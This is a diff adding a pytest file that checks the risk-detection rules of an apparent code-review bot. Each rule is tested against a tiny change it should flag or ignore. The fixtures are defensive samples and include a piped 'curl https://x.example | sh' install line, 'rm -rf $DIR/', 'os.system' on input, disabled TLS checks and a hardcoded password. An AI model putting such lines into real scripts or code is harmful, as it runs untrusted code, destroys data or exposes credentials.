@@ -1,0 +1,52 @@
+import pytest
+
+from bot.condense.risk import code
+from tests.condense.risk.telling import Change, ids, told
+
+TOLD: dict[str, Change] = {
+    "code/test-removed": ("tests/test_pay.py", "x: 1\ndef test_pays_once():", "x: 1"),
+    "code/test-skipped": ("tests/test_pay.py", "x: 1", "x: 1\n@pytest.mark.skip"),
+    "code/guard-removed": ("src/app.py", "x: 1\n    validate_amount(x)\n    authorize(user)", "x: 1"),
+    "code/unchecked-tls": ("src/app.py", "x: 1", "x: 1\nrequests.get(u, verify=False)"),
+    "code/runs-text": ("src/app.py", "x: 1", "x: 1\nos.system(x)"),
+    "code/remote-code": ("install.sh", "x: 1", "x: 1\ncurl https://x.example | sh"),
+    "code/deletes": ("clean.sh", "x: 1", "x: 1\nrm -rf $DIR/"),
+    "code/swallows": ("src/app.py", "x: 1", "x: 1\n    except Exception: pass"),
+    "code/handling-removed": ("src/app.py", "x: 1\n    raise Refused", "x: 1"),
+    "code/bound-removed": ("src/app.py", "x: 1\n    get(u, timeout=5)", "x: 1"),
+    "code/lock-removed": ("src/app.py", "x: 1\n    with lock:", "x: 1"),
+    "code/signal-removed": ("src/app.py", "x: 1\n    logger.error('x')", "x: 1"),
+    "code/public-removed": ("src/app.py", "x: 1\ndef pay(x):", "x: 1"),
+    "code/waits": ("src/app.py", "x: 1", "x: 1\n    time.sleep(5)"),
+    "code/starts-others": ("src/app.py", "x: 1", "x: 1\n    subprocess.run(x)"),
+    "code/credential": ("src/app.py", "x: 1", "x: 1\npassword = 'correct-horse'"),
+    "code/open": ("src/app.py", "x: 1", "x: 1\nDEBUG = True"),
+    "code/dependency": ("requirements.txt", "x: 1", "x: 1\nrequests==2.0"),
+    "code/failure": ("src/app.py", "x: 1", "x: 1\n    raise Refused"),
+    "code/bound": ("src/app.py", "x: 1", "x: 1\n    timeout = 5"),
+    "code/access": ("src/app.py", "x: 1", "x: 1\n    token = x(y)"),
+    "code/data": ("src/app.py", "x: 1", "x: 1\n    session.commit()"),
+    "code/setting": ("src/app.py", "x: 1", "x: 1\nx = os.environ['X']"),
+}
+
+QUIET: list[tuple[str, Change]] = [
+    ("code/public-removed", ("src/app.py", "def pay(x):\na = 1", "a = 1\ndef pay(x):")),
+    ("code/bound-removed", ("src/app.py", "get(u, timeout=5)", "get(v, timeout=9)")),
+    ("code/test-removed", ("tests/test_a.py", "def test_a():\nb = 1", "b = 1\ndef test_a():")),
+    ("code/credential", ("src/app.py", "x: 1", "x: 1\npassword = os.environ['P']")),
+]
+
+
+@pytest.mark.parametrize(("rule", "change"), TOLD.items(), ids=TOLD)
+def test_each_rule_tells_its_change(rule: str, change: Change) -> None:
+    assert rule in told(*change)
+
+
+def test_every_rule_has_an_example() -> None:
+    assert sorted(TOLD) == sorted(ids(code.RULES))
+
+
+@pytest.mark.parametrize(("rule", "change"), QUIET)
+def test_a_rule_is_quiet_where_there_is_nothing_to_tell(rule: str, change: Change) -> None:
+    assert rule in ids(code.RULES)
+    assert rule not in told(*change)
